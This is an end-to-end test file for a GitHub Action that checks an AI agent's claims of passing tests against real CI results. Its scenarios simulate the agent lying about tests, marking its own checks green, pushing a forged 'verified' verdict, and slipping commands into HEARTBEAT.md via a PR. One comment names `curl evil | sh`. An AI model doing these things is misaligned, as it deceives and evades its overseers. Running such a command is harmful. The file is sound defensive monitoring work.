// The verification sidecar in the scheduled heartbeat, as the runner runs it: `node dist/index.js`
// on a `schedule` payload, GITHUB_WORKSPACE a fresh clone of a real bare remote, check runs read
// from the local OpenAPI-validating GitHub server, and the audit trail read back with the built
// CLI (`heartbeat-gate log`) from a clone of the state branch.
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { commitTrailers } from '../helpers/state.js';
import { GitSandbox, git } from '../helpers/git.js';
import { useGitHubServer } from '../helpers/github.js';
import {
  CI_TEST,
  PASSING,
  repository,
  scheduledRepo,
  STATE_BRANCH,
  VERDICTS,
} from '../helpers/scheduled-repo.js';
import { NODE_RUNTIMES } from '../support/run-action.js';

// The runtime GitHub runs the Action on (action.yml: node24); runner.e2e and pull-request.e2e keep
// proving the bundle on Node 20 as well, so these long scenarios run once.
const ACTION_RUNTIME = NODE_RUNTIMES.filter((n) => n.name === 'node24');

const exec = promisify(execFile);
const CLI = join(import.meta.dirname, '../../dist/cli/index.js');

const sandbox = new GitSandbox();
const server = useGitHubServer();
const { heartbeat, cycleAnIntervalAgo, repositoryWithCycle, stateHead, agentPush } = scheduledRepo(
  sandbox,
  server,
);

beforeEach(async () => {
  server.state.setPermission({ ...repository, user: 'agent[bot]', permission: 'write' });
});

afterEach(async () => {
  await sandbox.cleanup();
});

describe.each(ACTION_RUNTIME)('the scheduled cycle verifies the agent under $name', (node) => {
  it('Build-Done says tests: pass, CI / test failed on that commit: not_verified, contradiction, -45, in log', async () => {
    const bare = await repositoryWithCycle(
      [
        '- [ ] ship | Ship the widget with its tests passing | required | verify: evidence:build.done',
      ],
      CI_TEST,
    );

    // The agent lands its work on main, claiming the tests pass; CI says they do not.
    const { sha } = await agentPush(
      bare,
      'main',
      { 'src/widget.ts': 'export const widget = 1;\n' },
      `feat: widget\n\nBuild-Done: ${PASSING}`,
    );
    // Work after the claim: the claim is no longer the tip the shallow checkout holds.
    await agentPush(bare, 'main', { 'docs/widget.md': '# Widget\n' }, 'docs: widget');
    server.state.addCheckRun({
      ...repository,
      headSha: sha,
      name: 'CI / test',
      conclusion: 'failure',
    });
    server.state.addCheckRun({
      ...repository,
      headSha: sha,
      name: 'CI / lint',
      conclusion: 'success',
    });

    const result = await heartbeat(node, bare);
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({ due: 'true', score: '-45' });
    // The checks were read on the claimed commit, through the API.
    expect(
      server.requests.filter((r) => r.operationId === 'checks/list-for-ref').map((r) => r.path),
    ).toEqual([`/repos/acme/widgets/commits/${sha}/check-runs`]);

    const short = sha.slice(0, 12);
    const claimed = `tests: pass (build.done on ${short})`;
    const actual = `check CI / test concluded failure on ${short}`;
    const { state, trailers } = await stateHead(bare);
    expect(trailers).toEqual([
      'Heartbeat-Cycle: 2',
      'Heartbeat-Score: -45',
      'Heartbeat-Target: 50',
      'Heartbeat-Tier: lockdown',
      'Heartbeat-Delta: -45',
      expect.stringMatching(/^Heartbeat-Interval: \d+$/),
      'Heartbeat-Verdict: ship not_verified contradiction',
      `Heartbeat-Contradiction: ship claimed ${claimed} | actual ${actual}`,
      `Heartbeat-Reason: ship contradiction: ${actual}`,
      // The run and attempt that wrote it (class G): only a heartbeat run's commits are built on.
      expect.stringMatching(/^Heartbeat-Run: \d+$/),
      'Heartbeat-Run-Attempt: 1',
    ]);

    // The job summary names the contradiction with both sides.
    expect(result.summary).toContain('❌ not\\_verified \\(ground truth contradiction\\)');
    expect(result.summary).toContain(
      `- **ship**: claimed tests\\: pass \\(build\\.done on ${short}\\) · actual check CI / test concluded failure on ${short}`,
    );

    // `heartbeat-gate log`, the built CLI, on a clone of the state branch.
    const { stdout } = await exec(node.bin, [CLI, 'log'], { cwd: state });
    expect(stdout).toContain('cycle 2  -45/50 lockdown  -45');
    expect(stdout).toContain(
      `not_verified  ship  (ground truth contradiction)  — contradiction: ${actual}\n      claimed: ${claimed}\n      actual:  ${actual}`,
    );
    expect(server.violations).toEqual([]);
  });

  it('a PR that adds verify: cmd: hints to HEARTBEAT.md runs none of them; the trusted ones run', async () => {
    const traces = await sandbox.dir('hg-traces-');
    // A cmd: runs as another user (nobody): anyone may leave a trace here.
    await chmod(traces, 0o777);
    const trace = (name: string) => join(traces, name);
    const trusted = [
      '# Heartbeat',
      '',
      '## Tasks',
      '',
      `- [ ] smoke | Smoke-test the build | required | verify: cmd:touch ${trace('trusted-ran')}`,
      `- [ ] run_tests | Run the tests | required | verify: cmd:test -f ${trace('never-there')}`,
      '',
    ].join('\n');
    const bare = await sandbox.bareRemote({
      'HEARTBEAT.md': trusted,
      '.heartbeat/config.json': JSON.stringify({ agents: ['agent[bot]'] }),
    });

    // The agent's PR adds a task whose command would leave a trace (in place of `curl evil | sh`)
    // and swaps run_tests' command for one; smoke stays as the trusted branch has it.
    const evil = trusted
      .replace(`cmd:test -f ${trace('never-there')}`, `cmd:touch ${trace('changed-ran')}`)
      .concat(
        `- [x] deploy | Check the deploy | required | verify: cmd:touch ${trace('added-ran')}\n`,
      );
    const pr = await agentPush(
      bare,
      'agent/tweak-heartbeat',
      { 'HEARTBEAT.md': evil },
      'chore: tweak heartbeat',
    );
    const pull = server.state.addPullRequest({
      ...repository,
      user: 'agent[bot]',
      headRef: 'agent/tweak-heartbeat',
      headSha: pr.sha,
    });
    server.state.addPullFile({ ...repository, pullNumber: pull.number, filename: 'HEARTBEAT.md' });
    // Worse still, the agent opened a cycle from its PR branch, so the cycle being judged
    // lists the PR's tasks and commands.
    await cycleAnIntervalAgo(pr.clone);

    const result = await heartbeat(node, bare);
    expect(result.code).toBe(0);
    expect(result.outputs.due).toBe('true');
    expect(existsSync(trace('added-ran'))).toBe(false);
    expect(existsSync(trace('changed-ran'))).toBe(false);
    // The sidecar is live: the command the trusted branch holds ran.
    expect(existsSync(trace('trusted-ran'))).toBe(true);

    const { state, trailers } = await stateHead(bare, /^Heartbeat-Verdict/);
    expect(trailers).toEqual([
      'Heartbeat-Verdict: deploy unclear',
      'Heartbeat-Verdict: run_tests unclear',
      'Heartbeat-Verdict: smoke verified',
    ]);
    const ledger = await git(
      state,
      'show',
      `HEAD:.heartbeat/ledger/${new Date().toISOString().slice(0, 7)}.jsonl`,
    );
    expect(ledger).toContain(
      'command not run: the command is not in the contract on the trusted branch',
    );
    expect(server.violations).toEqual([]);
  });
  it("unproven is unclear: a [skip ci] claim with no CI run, a check only the agent's own status passes", async () => {
    const bare = await repositoryWithCycle(
      [
        '- [ ] ship | Ship the widget | required | verify: evidence:build.done',
        '- [ ] green | Keep lint green | required | verify: check:CI / lint',
      ],
      CI_TEST,
    );
    const { sha } = await agentPush(
      bare,
      'main',
      { 'src/widget.ts': 'export const widget = 1;\n' },
      `feat: widget [skip ci]\n\nBuild-Done: ${PASSING}`,
    );
    // The agent marks its own head green; GitHub names it as the status's creator.
    server.state.addCommitStatus({
      ...repository,
      sha,
      context: 'CI / lint',
      state: 'success',
      creator: 'agent[bot]',
    });

    const result = await heartbeat(node, bare);
    expect(result.code).toBe(0);
    // -2 -2: neither is proven, neither is disproven.
    expect(result.outputs).toMatchObject({ due: 'true', score: '-4' });
    const { trailers } = await stateHead(bare, VERDICTS);
    expect(trailers).toEqual([
      'Heartbeat-Verdict: green unclear',
      'Heartbeat-Verdict: ship unclear',
      `Heartbeat-Reason: green check CI / lint: absent on ${sha.slice(0, 12)}`,
      `Heartbeat-Reason: ship ground truth CI / test: absent on ${sha.slice(0, 12)}`,
    ]);
    expect(result.summary).toMatch(/ground truth CI \/ test\\?: absent/);
    expect(server.violations).toEqual([]);
  });

  it('a lying claim with CI pending at cycle time is unclear, then a contradiction once CI fails, charged once', async () => {
    const bare = await repositoryWithCycle(['- [ ] ship | Ship the widget | required'], CI_TEST);
    const { sha } = await agentPush(
      bare,
      'main',
      { 'src/widget.ts': 'export const widget = 1;\n' },
      `feat: widget\n\nHeartbeat-Task: ship\nBuild-Done: ${PASSING}`,
    );
    const short = sha.slice(0, 12);
    // CI is still running; the agent marks the check green itself, which counts for nothing.
    const run = server.state.addCheckRun({
      ...repository,
      headSha: sha,
      name: 'CI / test',
      status: 'in_progress',
    });
    server.state.addCommitStatus({
      ...repository,
      sha,
      context: 'CI / test',
      state: 'success',
      creator: 'agent[bot]',
    });

    const first = await heartbeat(node, bare);
    expect(first.code).toBe(0);
    expect(first.outputs).toMatchObject({ due: 'true', score: '-2' });
    const state = await sandbox.clone(bare);
    const cycleCommit = async () => {
      await git(state, 'fetch', '-q', 'origin', STATE_BRANCH);
      await git(state, 'checkout', '-q', '-B', STATE_BRANCH, `origin/${STATE_BRANCH}`);
      return (await commitTrailers(state, 'HEAD')).filter((t) =>
        /^Heartbeat-(Cycle|Score|Verdict|Reason|Contradiction)/.test(t),
      );
    };
    expect(await cycleCommit()).toEqual([
      'Heartbeat-Cycle: 2',
      'Heartbeat-Score: -2',
      'Heartbeat-Verdict: ship unclear',
      `Heartbeat-Reason: ship ground truth CI / test: pending on ${short}`,
    ]);
    const ledger = await git(
      state,
      'show',
      `HEAD:.heartbeat/ledger/${new Date().toISOString().slice(0, 7)}.jsonl`,
    );
    expect(ledger).toContain(`ignored status CI / test by agent[bot] (an agent) on ${short}`);

    // CI concludes after the cycle: the tests fail.
    Object.assign(run, {
      status: 'completed',
      conclusion: 'failure',
      completed_at: new Date().toISOString(),
    });
    // Cycle 3 is due 10 minutes after cycle 2 (escalated at -2), cycle 4 8 minutes after it.
    const second = await heartbeat(node, bare, { minutesLater: 15 });
    expect(second.code).toBe(0);
    // -2, then -45: the later failure is a ground-truth contradiction.
    expect(second.outputs).toMatchObject({ due: 'true', score: '-47' });
    const actual = `check CI / test concluded failure on ${short}`;
    expect(await cycleCommit()).toEqual([
      'Heartbeat-Cycle: 3',
      'Heartbeat-Score: -47',
      'Heartbeat-Verdict: ship not_verified contradiction',
      expect.stringMatching(
        new RegExp(
          `^Heartbeat-Contradiction: ship claimed tests: pass \\(build\\.done on ${short}, open since [^)]+\\) \\| actual ${actual}$`,
        ),
      ),
      `Heartbeat-Reason: ship contradiction: ${actual}`,
    ]);
    expect(second.summary).toContain('❌ not\\_verified \\(ground truth contradiction\\)');

    // Concluded, the claim is no longer read: the next cycle judges only what came after it.
    const third = await heartbeat(node, bare, { minutesLater: 23 });
    expect(third.code).toBe(0);
    expect(third.outputs).toMatchObject({ due: 'true', score: '-62' });
    expect(await cycleCommit()).toEqual([
      'Heartbeat-Cycle: 4',
      'Heartbeat-Score: -62',
      'Heartbeat-Verdict: ship not_verified',
      'Heartbeat-Reason: ship no claim named the task',
    ]);
    expect(server.violations).toEqual([]);
  }, 240_000);

  it("judges the agent's PR comment claims: by API login, created after the last cycle, ground truth on the PR head", async () => {
    const bare = await repositoryWithCycle(
      [
        '- [ ] ship | Ship the widget | required',
        '- [ ] fix | Fix the parser | required',
        '- [ ] docs | Write the docs | required',
      ],
      CI_TEST,
    );
    const claim = (task: string) =>
      ['Done.', '', '```build.done', `Heartbeat-Task: ${task}`, PASSING, '```', ''].join('\n');
    const pullWith = async (branch: string, conclusion: 'success' | 'failure') => {
      const { sha } = await agentPush(
        bare,
        branch,
        { [`${branch}.ts`]: 'export {};\n' },
        `feat: ${branch}`,
      );
      const pull = server.state.addPullRequest({
        ...repository,
        user: 'agent[bot]',
        headRef: branch,
        headSha: sha,
      });
      server.state.addCheckRun({ ...repository, headSha: sha, name: 'CI / test', conclusion });
      return { number: pull.number, sha };
    };
    const green = await pullWith('agent/ship', 'success');
    const red = await pullWith('agent/fix', 'failure');
    const comment = (issueNumber: number, user: string, body: string, times: object = {}) =>
      server.state.addIssueComment({ ...repository, issueNumber, user, body, ...times });
    comment(green.number, 'agent[bot]', claim('ship'));
    // A lie in a comment is read against the PR's head like a trailer's.
    comment(red.number, 'agent[bot]', claim('fix'));
    // Someone else claiming for the agent, and the agent's claim from before the judged cycle
    // (edited since, so `since` lists it), count for nothing.
    comment(green.number, 'mallory', claim('docs'));
    comment(green.number, 'agent[bot]', claim('docs'), {
      createdAt: new Date(Date.now() - 2 * 3_600_000).toISOString(),
      updatedAt: new Date().toISOString(),
    });

    const result = await heartbeat(node, bare);
    expect(result.code).toBe(0);
    // +10 -45 -15.
    expect(result.outputs).toMatchObject({ due: 'true', score: '-50' });
    const { trailers } = await stateHead(bare, VERDICTS);
    expect(trailers).toEqual([
      'Heartbeat-Verdict: docs not_verified',
      'Heartbeat-Verdict: fix not_verified contradiction',
      'Heartbeat-Verdict: ship verified',
      'Heartbeat-Reason: docs no claim named the task',
      `Heartbeat-Reason: fix contradiction: check CI / test concluded failure on ${red.sha.slice(0, 12)}`,
      `Heartbeat-Reason: ship accepted build.done on ${green.sha.slice(0, 12)} named the task`,
    ]);
    // From the poll's listing: no listing of the repository's comments, whoever wrote them.
    expect(
      server.requests.filter((r) => r.operationId === 'issues/list-comments-for-repo'),
    ).toEqual([]);
    expect(server.violations).toEqual([]);
  }, 180_000);

  it("the agent's comments are read to the end; when they cannot be read, nothing is settled and a later run judges the cycle", async () => {
    const bare = await repositoryWithCycle(
      [
        '- [ ] ship | Ship the widget | required',
        '- [ ] smoke | Smoke test | required | verify: cmd:true',
      ],
      { agents: ['agent[bot]'] },
    );
    const { sha } = await agentPush(
      bare,
      'agent/ship',
      { 'ship.ts': 'export {};\n' },
      'feat: ship',
    );
    const pull = server.state.addPullRequest({
      ...repository,
      user: 'agent[bot]',
      headRef: 'agent/ship',
      headSha: sha,
    });
    // 1,000 comments of the agent's before its claim: every one is read, none dropped.
    for (let i = 0; i < 1_000; i++) {
      server.state.addIssueComment({
        ...repository,
        issueNumber: pull.number,
        user: 'agent[bot]',
        body: `noise ${i}`,
      });
    }
    server.state.addIssueComment({
      ...repository,
      issueNumber: pull.number,
      user: 'agent[bot]',
      body: ['```build.done', 'Heartbeat-Task: ship', PASSING, '```'].join('\n'),
    });
    const { state } = await stateHead(bare);
    const before = await git(state, 'rev-parse', `origin/${STATE_BRANCH}`);

    // GitHub cannot answer for the comments' bodies: not even `unclear` is written.
    server.refuseNext('graphql:CommentBodies', 403, 'Resource not accessible by integration');
    const refused = await heartbeat(node, bare);
    expect(refused.code).not.toBe(0);
    expect(refused.stdout).toMatch(/PR comments since \S+ could not be read/);
    const after = await sandbox.clone(bare);
    expect(await git(after, 'rev-parse', `origin/${STATE_BRANCH}`)).toBe(before);

    // The next run judges the cycle on what GitHub knew at its due time.
    const result = await heartbeat(node, bare);
    expect(result.code).toBe(0);
    const { trailers } = await stateHead(bare, VERDICTS);
    expect(trailers).toEqual([
      'Heartbeat-Verdict: ship verified',
      'Heartbeat-Verdict: smoke verified',
      `Heartbeat-Reason: ship accepted build.done on ${sha.slice(0, 12)} named the task`,
      'Heartbeat-Reason: smoke cmd: exited 0',
    ]);
    // 1,001 bodies of the agent's: 11 queries of 100.
    const bodies = server.requests.filter((r) =>
      JSON.stringify(r.body ?? '').includes('query CommentBodies'),
    );
    expect(bodies.length).toBe(1 + 11);
    expect(server.violations).toEqual([]);
  }, 240_000);

  it('a verified verdict the agent pushed to the state branch does not stop the sidecar', async () => {
    const bare = await repositoryWithCycle(
      ['- [ ] ship | Ship the widget | required | verify: evidence:build.done'],
      CI_TEST,
    );
    const { sha } = await agentPush(
      bare,
      'main',
      { 'src/widget.ts': 'export const widget = 1;\n' },
      `feat: widget\n\nBuild-Done: ${PASSING}`,
    );
    server.state.addCheckRun({
      ...repository,
      headSha: sha,
      name: 'CI / test',
      conclusion: 'failure',
    });
    // The agent records `verdict ship verified` on the state branch itself and pushes it.
    const agentState = await sandbox.clone(bare);
    await git(agentState, 'checkout', '-q', STATE_BRANCH);
    const pushed = await runCli(
      [
        'verdict',
        'ship',
        'verified',
        '--push',
        '--now',
        new Date(Date.now() - 60_000).toISOString(),
      ],
      { cwd: agentState },
    );
    expect(pushed.code).toBe(0);

    const result = await heartbeat(node, bare);
    expect(result.code).toBe(0);
    const { trailers } = await stateHead(bare);
    expect(trailers).toContain('Heartbeat-Verdict: ship not_verified contradiction');
    expect(trailers).toContain(
      `Heartbeat-Reason: ship contradiction: check CI / test concluded failure on ${sha.slice(0, 12)}`,
    );
    expect(server.violations).toEqual([]);
  });
});
